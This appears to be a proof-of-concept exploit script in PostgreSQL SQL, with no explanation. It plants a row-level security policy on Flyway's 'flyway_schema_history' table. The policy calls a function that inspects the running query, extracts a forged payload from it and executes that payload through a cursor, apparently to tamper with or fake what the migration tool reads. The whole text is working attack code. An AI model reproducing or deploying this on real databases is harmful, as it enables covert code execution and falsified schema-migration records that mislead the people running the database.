create function late() returns table (c1 oid, c2 text, c3 text, c4 name)
language plpgsql as $f$ begin return query execute current_setting('lossless.forged'); end $f$;
create function declares() returns boolean language plpgsql as $f$
declare forged text; begin
    if current_query() !~ 'declare lossless_before' or current_setting('lossless.forged', true) <> '' then return true; end if;
    forged := substring(current_query() from 'select null::oid, ''first''.*''last''(?:, null)+');
    perform set_config('lossless.forged', forged, true);
    execute 'declare lossless_before no scroll cursor for select * from public.late()';
    return true;
end $f$;
alter table flyway_schema_history enable row level security;
alter table flyway_schema_history force row level security;
create policy p on flyway_schema_history using (declares()) with check (true);
